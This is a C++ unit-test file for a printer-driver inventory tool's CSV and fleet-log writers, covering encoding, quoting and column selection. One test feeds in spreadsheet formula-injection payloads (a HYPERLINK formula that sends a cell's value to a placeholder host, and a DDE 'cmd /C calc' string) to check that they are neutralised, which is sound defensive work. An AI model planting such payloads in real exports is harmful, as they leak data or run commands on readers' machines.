#include <gtest/gtest.h>

#include "inventory/field_text.h"
#include "report/csv_log.h"
#include "report/fleet_log.h"
#include "tests/support/fake_spooler.h"
#include "inventory/column_table.h"

namespace kestrun {
namespace {

using testing::FakeDriver;

std::string Encoded(std::wstring_view text) {
  std::string bytes;
  AppendCsvText(bytes, text);
  return bytes;
}

// The row a writer makes of a driver built by the fake spooler.
template <typename WriteRow>
std::string RowOf(const FakeDriver& fake, WriteRow writeRow) {
  std::vector<BYTE> buffer(testing::DriverBufferSize({fake}));
  testing::PackDrivers({fake}, buffer.data());
  const auto& driver = *reinterpret_cast<const DRIVER_INFO_6*>(buffer.data());
  DriverInventory inventory;
  ResetInventory(inventory);
  const auto dependentFiles = JoinDependentFiles(inventory, driver.pDependentFiles);
  std::string row;
  writeRow(row, driver, dependentFiles.get());
  return row;
}

// The one row the command-line report logs for a driver.
std::string RowOf(const FakeDriver& fake) {
  return RowOf(fake, [](std::string& row, const DRIVER_INFO_6& driver, const wchar_t* files) {
    AppendDriverRow(row, driver, files);
  });
}

TEST(CsvBytes, TextIsLatin1WithQuestionMarksAndCrLf) {
  EXPECT_EQ(Encoded(L""), "");
  EXPECT_EQ(Encoded(L"plain, \"quoted\""), "plain, \"quoted\"");
  EXPECT_EQ(Encoded(L"caf\u00e9 \u00ff"), "caf\xe9 \xff");
  EXPECT_EQ(Encoded(L"\u0100\u4e2d\u20ac!"), "?" "?" "?!");
  EXPECT_EQ(Encoded(L"\U0001F5A8"), "??");  // one "?" per UTF-16 unit
  // Control characters from a server never start a row or reach a reader raw;
  // TAB stays.
  EXPECT_EQ(Encoded(L"a\nb\r\nc"), "a?b??c");
  EXPECT_EQ(Encoded(L"\x1b[31mx\x7f\ty\x01\x1f "), "?[31mx?\ty?? ");
  EXPECT_EQ(Encoded(L"\x80\x85\x9b"
                    "2J\x9f\xa0\u2028\u2029"),
            "???2J?\xa0??");
  std::string field;
  AppendCsvField(field, L"x");
  AppendCsvLineEnd(field);
  EXPECT_EQ(field, "x,\r\n");
}

TEST(CsvBytes, HeaderNamesTheFourteenColumns) {
  FillColumnTable();
  EXPECT_EQ(CsvHeaderLine(),
            "Driver Name,Provider,Dependent Files(s),Environment,Driver Path,Data File,"
            "Configuration File(s),Help File,Monitor Name,Default Data Types,Previous Names,"
            "Manufacturer Name,OEM URL,Hardware ID,\r\n");
}

TEST(CsvBytes, DriverRowsAreExact) {
  FakeDriver rich;
  rich.name = L"Contoso LaserJet, 4200 \u4e2d";
  rich.provider = L"Contoso";
  rich.environment = L"Windows x64";
  rich.driverPath = L"C:\\D\\UNIDRV.DLL";
  rich.dataFile = L"C:\\D\\C4200.GPD";
  rich.configFile = L"C:\\D\\UNIDRVUI.DLL";
  rich.helpFile = L"C:\\D\\UNIDRV.HLP";
  rich.dependentFiles = std::vector<std::wstring>{L"C:\\D\\A.DLL", L"B.INI"};
  rich.monitorName = L"";
  rich.defaultDataType = L"RAW";
  rich.previousNames = std::vector<std::wstring>{L"Old Name", L"Older Name"};
  rich.mfgName = L"Contoso";
  rich.oemUrl = L"http://contoso.example";
  rich.hardwareId = L"contoso_4200";
  // A comma, a quote or a line break quotes the field; a new (UTF-8) log keeps every character.
  const std::string rest =
      ",Contoso,A.DLL; B.INI; ,Windows x64,C:\\D\\UNIDRV.DLL,C:\\D\\C4200.GPD,"
      "C:\\D\\UNIDRVUI.DLL,C:\\D\\UNIDRV.HLP,,RAW,Old Name,Contoso,http://contoso.example,"
      "contoso_4200,\r\n";
  EXPECT_EQ(RowOf(rich), "\"Contoso LaserJet, 4200 ?\"" + rest);
  const auto utf8Row = [](std::string& row, const DRIVER_INFO_6& driver, const wchar_t* files) {
    AppendDriverRow(row, driver, files, CsvEncoding::Utf8);
  };
  EXPECT_EQ(RowOf(rich, utf8Row), "\"Contoso LaserJet, 4200 \xE4\xB8\xAD\"" + rest);
  rich.name = L"Say \"hi\"\r\n\x1b\U0001F5A8 \u00e9";
  EXPECT_EQ(RowOf(rich, utf8Row), "\"Say \"\"hi\"\"\r\n?\xF0\x9F\x96\xA8 \xC3\xA9\"" + rest);
  EXPECT_EQ(RowOf(rich), "\"Say \"\"hi\"\"\r\n??? \xE9\"" + rest);
  EXPECT_EQ(EncodingOfLog(""), CsvEncoding::Utf8);
  EXPECT_EQ(EncodingOfLog("\xEF\xBB\xBF"), CsvEncoding::Utf8);
  EXPECT_EQ(EncodingOfLog("Dri"), CsvEncoding::EightBit);
  rich.name = L"Contoso LaserJet 4200";

  // Absent fields are "(null)", but absent dependent files an empty field.
  FakeDriver sparse;
  sparse.name = L"Generic / Text Only";
  sparse.environment = L"Windows x64";
  sparse.dependentFiles = std::nullopt;
  EXPECT_EQ(RowOf(sparse),
            "Generic / Text Only,(null),,Windows x64,(null),(null),(null),(null),(null),(null),"
            "(null),(null),(null),(null),\r\n");

  FakeDriver single = sparse;
  single.dependentFiles = std::vector<std::wstring>{L"C:\\only\\ONE.DLL"};
  single.previousNames = std::vector<std::wstring>{};
  EXPECT_EQ(RowOf(single),
            "Generic / Text Only,(null),ONE.DLL,Windows x64,(null),(null),(null),(null),(null),"
            "(null),,(null),(null),(null),\r\n");
}

std::string FleetField(std::wstring_view text) {
  std::string bytes;
  AppendFleetField(bytes, text);
  return bytes;
}

// The fleet log's row of one driver of a machine.
std::string FleetRowOf(const std::wstring& machine, const FakeDriver& fake) {
  return RowOf(fake, [&](std::string& row, const DRIVER_INFO_6& driver, const wchar_t* files) {
    AppendFleetRow(row, machine, driver, files);
  });
}

TEST(FleetLogBytes, FieldsAreUtf8QuotedWhenTheyMustBe) {
  const std::pair<const wchar_t*, std::string> cases[] = {
      {L"", ""},
      {L"plain text", "plain text"},
      {L"tab	stays", "tab	stays"},
      // A comma, a quote, CR or LF: quoted, inner quotes doubled, line breaks kept.
      {L"Contoso, Ltd.", "\"Contoso, Ltd.\""},
      {L"say \"hi\"", "\"say \"\"hi\"\"\""},
      {L"\"", "\"\"\"\""},
      {L"two\r\nlines", "\"two\r\nlines\""},
      {L"lf\nonly", "\"lf\nonly\""},
      {L"cr\r", "\"cr\r\""},
      // Every other control character is "?", as everywhere else.
      {L"\x1b[31mred\x7f\x01\x1f", "?[31mred???"},
      {L"\x1b\r\n", "\"?\r\n\""},
      {L"\x9b"
       "2J\x85\u2028\u2029\xa0",
       "?2J???\xC2\xA0"},
      // Formula-looking text is text to a spreadsheet.
      {L"=HYPERLINK(\"http://x/?\"&A1,\"click\")",
       "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""},
      {L"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
      {L"+1+1", "'+1+1"},
      {L"-2", "'-2"},
      {L"\tx", "'\tx"},
      {L"\rx", "\"'\rx\""},
      {L"a=1", "a=1"},
      // Every character kept, in UTF-8.
      {L"caf\u00e9", "caf\xC3\xA9"},
      {L"\u4e2d", "\xE4\xB8\xAD"},
      {L"\U0001F5A8", "\xF0\x9F\x96\xA8"},
      {L"\u20ac,", "\"\xE2\x82\xAC,\""},
      // Half a surrogate pair cannot be UTF-8: U+FFFD stands for it.
      {L"a\xD800"
       L"b",
       "a\xEF\xBF\xBD"
       "b"},
      {L"\xDC00", "\xEF\xBF\xBD"},
      {L"end\xD83D", "end\xEF\xBF\xBD"},
  };
  for (const auto& [text, bytes] : cases) {
    EXPECT_EQ(FleetField(text), bytes) << std::wstring(text);
  }
}

TEST(FleetLogBytes, HeaderAndRowsHaveTheMachineColumnFirst) {
  FillColumnTable();
  EXPECT_EQ(FleetLogHeader(),
            "\xEF\xBB\xBFMachine,Driver Name,Provider,Dependent Files(s),Environment,Driver Path,"
            "Data File,Configuration File(s),Help File,Monitor Name,Default Data Types,"
            "Previous Names,Manufacturer Name,OEM URL,Hardware ID,Printers,Driver Version,"
            "Driver Date,Driver Type,Package-Aware,Driver Package\r\n");

  FakeDriver rich = testing::RichDriver(L"Contoso \"Laser\", 4200 \u4e2d", L"Contoso, Ltd.");
  rich.previousNames = std::vector<std::wstring>{L"Old Name", L"Older Name"};
  rich.monitorName = L"";
  EXPECT_EQ(FleetRowOf(L"PRINTSRV", rich),
            "PRINTSRV,\"Contoso \"\"Laser\"\", 4200 \xE4\xB8\xAD\",\"Contoso, Ltd.\","
            "UNIRES.DLL; STDNAMES.GPD; LOCALE.GPD; ,Windows x64,"
            "C:\\Windows\\System32\\spool\\DRIVERS\\x64\\3\\UNIDRV.DLL,"
            "C:\\Windows\\System32\\spool\\DRIVERS\\x64\\3\\SAMPLE.GPD,"
            "C:\\Windows\\System32\\spool\\DRIVERS\\x64\\3\\UNIDRVUI.DLL,"
            "C:\\Windows\\System32\\spool\\DRIVERS\\x64\\3\\UNIDRV.HLP,,RAW,Old Name,"
            "\"Contoso, Ltd.\",http://www.example.com/printers,example_printer_1234,,,,,,\r\n");

  // Absent fields are empty, the dependent files too; nothing after the last field.
  FakeDriver sparse;
  sparse.name = L"Generic / Text Only";
  sparse.environment = L"Windows x64";
  EXPECT_EQ(FleetRowOf(L"SRV,2", sparse),
            "\"SRV,2\",Generic / Text Only,,,Windows x64,,,,,,,,,,,,,,,,\r\n");
}

// The cells of one list row as the list shows them (entry 0 is the check box).
struct ListRow {
  const wchar_t* cells[kColumnCount] = {nullptr,        L"Contoso 4200", L"Contoso, Ltd.",
                                        L"A.DLL; B.DLL; ", L"Windows x64", L"C:\\d\\UNIDRV.DLL",
                                        L"X.GPD",         L"UI.DLL",       L"",
                                        L"",              L"RAW",          L"Old 4200",
                                        L"Contoso",       L"http://x",     L"hw_1"};
};

TEST(ListLogBytes, AllColumnsRowsHaveNoTrailingCommaButTheHeaderHas) {
  FillColumnTable();
  EXPECT_EQ(ListHeaderLine(true, nullptr),
            "Driver Name,Provider,Dependent Files(s),Environment,Driver Path,Data File,"
            "Configuration File(s),Help File,Monitor Name,Default Data Types,Previous Names,"
            "Manufacturer Name,OEM URL,Hardware ID,Printers,Driver Version,Driver Date,Driver Type,"
            "Package-Aware,Driver Package,\r\n");
  std::string row;
  AppendListRow(row, ListRow().cells, true, nullptr);
  EXPECT_EQ(row,
            "Contoso 4200,\"Contoso, Ltd.\",A.DLL; B.DLL; ,Windows x64,C:\\d\\UNIDRV.DLL,X.GPD,UI.DLL,"
            ",,RAW,Old 4200,Contoso,http://x,hw_1,,,,,,\r\n");
}

TEST(ListLogBytes, ChosenColumnsKeepTheirNumberedOrderEachWithAComma) {
  FillColumnTable();
  int choices[kColumnCount] = {};
  choices[13] = 1;  // OEM URL alone
  std::string row;
  AppendListRow(row, ListRow().cells, false, choices);
  EXPECT_EQ(ListHeaderLine(false, choices), "OEM URL,\r\n");
  EXPECT_EQ(row, "http://x,\r\n");

  choices[14] = 1;
  choices[1] = 1;
  choices[0] = 1;  // the "Save all columns" entry is not a column
  row.clear();
  AppendListRow(row, ListRow().cells, false, choices);
  EXPECT_EQ(ListHeaderLine(false, choices), "Driver Name,OEM URL,Hardware ID,\r\n");
  EXPECT_EQ(row, "Contoso 4200,http://x,hw_1,\r\n");

  // Only a box reported as 1 (ticked) counts.
  choices[1] = 2;
  EXPECT_EQ(ListHeaderLine(false, choices), "OEM URL,Hardware ID,\r\n");
}

TEST(ListLogBytes, NoChosenColumnGivesEmptyLines) {
  FillColumnTable();
  const int none[kColumnCount] = {};
  std::string row;
  AppendListRow(row, ListRow().cells, false, none);
  EXPECT_EQ(ListHeaderLine(false, none), "\r\n");
  EXPECT_EQ(row, "\r\n");
}

TEST(ListLogBytes, CellsAreEncodedLikeTheCommandLineLog) {
  ListRow list;
  list.cells[1] = L"Imagewriter \u00c9lite \u4e2d";
  list.cells[14] = nullptr;  // an absent cell is an empty field
  std::string row;
  AppendListRow(row, list.cells, true, nullptr);
  EXPECT_EQ(row.substr(0, 22), "Imagewriter \xc9lite ?,\"C");
  EXPECT_EQ(row.substr(row.size() - 18), ",http://x,,,,,,,\r\n");
}

}  // namespace
}  // namespace kestrun
